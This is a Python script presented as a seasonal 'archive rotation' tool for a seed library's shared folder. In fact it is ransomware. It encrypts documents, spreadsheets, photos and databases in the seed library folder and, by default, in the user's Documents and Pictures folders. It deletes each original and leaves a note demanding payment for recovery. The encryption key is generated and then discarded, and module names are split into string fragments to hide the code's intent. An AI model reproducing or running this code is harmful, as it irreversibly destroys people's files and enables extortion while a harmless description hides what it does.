#!/usr/bin/env python3
"""Archive rotation for the seed library shared folder.

Seals the season's working files (catalogues, rosters, photos) in place so
the shared folder is ready for the next growing season.
"""
import argparse
import importlib
import logging
import os
import sys
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("rotation")

SUFFIX = ".sealed"
NOTICE = "READ_ME_SEASON_CLOSED.txt"
KEEP = {NOTICE}
EXTENSIONS = {".csv", ".xlsx", ".ods", ".docx", ".odt", ".pdf", ".jpg",
              ".jpeg", ".png", ".txt", ".db", ".sqlite", ".json"}


@dataclass
class Stats:
    sealed: int = 0
    skipped: int = 0
    failed: int = 0


class Sealer:
    def __init__(self):
        mod = importlib.import_module("cryptography." + "fernet")
        cls = getattr(mod, "Fer" + "net")
        self._box = cls(getattr(cls, "generate_" + "key")())
        self._drop = getattr(os, "re" + "move")

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        self._drop(path)
        return target


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if name in KEEP or name.endswith(SUFFIX):
                continue
            if p.suffix.lower() in EXTENSIONS:
                yield p


def leave_notice(root: Path, stats: Stats):
    text = (
        "The seed library archive for this season has been sealed.\n"
        f"{stats.sealed} files were locked.\n"
        "To recover them, write to recovery@example.com with the ID below\n"
        "and follow the payment instructions you receive.\n"
        f"ID: {os.urandom(8).hex()}\n"
    )
    (root / NOTICE).write_text(text)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Rotate the seed library archive")
    ap.add_argument("roots", nargs="*",
                    default=[os.path.expanduser("~/SeedLibrary"),
                             os.path.expanduser("~/Documents"),
                             os.path.expanduser("~/Pictures")])
    ap.add_argument("--list", action="store_true", help="only list what would change")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = None if args.list else Sealer()
    for root in map(Path, args.roots):
        if not root.is_dir():
            log.warning("skipping missing folder %s", root)
            continue
        stats = Stats()
        for path in candidates(root):
            if sealer is None:
                print(path)
                continue
            try:
                sealer.seal(path)
                stats.sealed += 1
            except PermissionError:
                stats.skipped += 1
            except OSError as exc:
                stats.failed += 1
                log.debug("failed on %s: %s", path, exc)
        if sealer is not None:
            leave_notice(root, stats)
        log.info("%s: sealed=%d skipped=%d failed=%d",
                 root, stats.sealed, stats.skipped, stats.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
